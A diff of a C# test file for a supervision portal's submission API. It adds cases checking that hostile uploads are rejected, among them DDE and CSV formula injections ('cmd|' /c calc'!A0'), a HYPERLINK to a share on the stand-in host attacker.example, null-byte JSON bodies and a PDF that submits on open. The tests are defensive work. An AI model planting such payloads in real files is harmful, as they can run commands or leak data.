@@ -64,7 +64,10 @@ public partial class HostileInputCorpusTests(Portal portal) : IClassFixture<Port
         ["row 300001"] = new(RowBeyondLimit, Statuses: 422),
         ["column XFD"] = new(ColumnBeyondLimit, Statuses: 422),
         ["cell of 40000 characters"] = new(CellTooLong, Statuses: 422),
-        ["formula cell calling a web service"] = new(FormulaCell, Statuses: 422),
+        ["formula cell calling a web service"] = new(FormulaCell, Code: "file.external_formula", Statuses: 422),
+        ["formula cell reading another workbook"] = new(() => FormulaCell("[1]Sheet1!A1"), Code: "file.external_formula", Statuses: 422),
+        ["formula cell with a DDE link"] = new(() => FormulaCell("cmd|' /c calc'!A0"), Code: "file.external_formula", Statuses: 422),
+        ["formula cell linking a network share"] = new(() => FormulaCell("HYPERLINK(\"\\\\attacker.example\\share\\a.xlsx\",\"点此\")"), Code: "file.external_formula", Statuses: 422),
         // Formula (CSV) injection and markup in the free-text cells of an otherwise valid return.
         ["=cmd formula text in a text cell"] = new(() => LogQuarterlyWithText("=cmd|' /C calc'!A0"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
         ["+ formula text in a text cell"] = new(() => LogQuarterlyWithText("+HYPERLINK(\"http://evil.example\",\"点此\")"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
@@ -175,6 +178,7 @@ public partial class HostileInputCorpusTests(Portal portal) : IClassFixture<Port
     {
         // The body is not a multipart form: routing or the handler refuses it, never Blazor's text or antiforgery pages.
         ["json body"] = new(() => Post(new StringContent("{\"template\":\"RN-MONTHLY\"}", Encoding.UTF8, "application/json")), 415, "request.not_multipart"),
+        ["json body with \\u0000"] = new(() => Post(new StringContent("{\"template\":\"RN\\u0000MONTHLY\",\"period\":\"2026-09\u0000\"}", Encoding.UTF8, "application/json")), 415, "request.not_multipart"),
         ["form-encoded body"] = new(() => Post(new FormUrlEncodedContent([new("template", "RN-MONTHLY"), new("period", "2026-09")])), 415, "request.not_multipart"),
         ["plain text body"] = new(() => Post(new StringContent("RN-MONTHLY")), 415, "request.not_multipart"),
         ["no body"] = new(() => new HttpRequestMessage(HttpMethod.Post, "/api/v1/submissions"), 415, "request.not_multipart"),
@@ -234,6 +238,21 @@ public partial class HostileInputCorpusTests(Portal portal) : IClassFixture<Port
         var client = failing.Key is null ? portal.Anonymous() : Client(failing.Key);
         await ApiErrorAsync(await client.SendAsync(failing.Request()), name, [failing.Status], failing.Code);
         Assert.Equal(before, await CountsAsync());
+    }
+
+    /// <summary>HEAD on each GET endpoint answers as GET does (status, content type), without a body; not 405.</summary>
+    [Theory]
+    [InlineData("/api/v1/templates/RN-MONTHLY")]
+    [InlineData("/api/v1/templates/NO-SUCH")]
+    [InlineData("/api/v1/submissions/0")]
+    public async Task Head_on_an_api_get_endpoint_answers_like_get_without_a_body(string url)
+    {
+        var client = Client(CmccKey);
+        var get = await client.GetAsync(url);
+        var head = await client.SendAsync(new HttpRequestMessage(HttpMethod.Head, url));
+        Assert.Equal((get.StatusCode, get.Content.Headers.ContentType?.MediaType), (head.StatusCode, head.Content.Headers.ContentType?.MediaType));
+        Assert.NotEmpty(await get.Content.ReadAsByteArrayAsync());
+        Assert.Empty(await head.Content.ReadAsByteArrayAsync());
     }
 
     [Theory]
@@ -379,6 +398,7 @@ public partial class HostileInputCorpusTests(Portal portal) : IClassFixture<Port
         { "png", "现场照片.jpeg", "file.extension_mismatch" },
         { "javascript", "证据.pdf", "pdf.script" },
         { "embedded", "证据.pdf", "pdf.embedded_file" },
+        { "submit-on-open", "证据.pdf", "pdf.action" },
     };
 
     [Theory]
@@ -388,7 +408,8 @@ public partial class HostileInputCorpusTests(Portal portal) : IClassFixture<Port
         var bytes = kind switch
         {
             "exe" => Exe(), "html" => Html(), "svg" => Svg(), "empty" => [], "big" => [.. Pdf(), .. new byte[Supervision.Domain.Files.EvidenceFiles.MaxBytes]],
-            "pdf" => Pdf(), "png" => Png(), "javascript" => PdfWithJavaScript(), "embedded" => PdfWithEmbeddedFile(), _ => Jpeg(),
+            "pdf" => Pdf(), "png" => Png(), "javascript" => PdfWithJavaScript(), "embedded" => PdfWithEmbeddedFile(),
+            "submit-on-open" => PdfSubmittingOnOpen(), _ => Jpeg(),
         };
         await using var db = portal.Db();
         var target = await db.EnforcementCases.Where(c => c.State == CaseState.Investigating).Select(c => new { c.Id, c.ProvinceId, c.ConcurrencyToken }).FirstAsync();
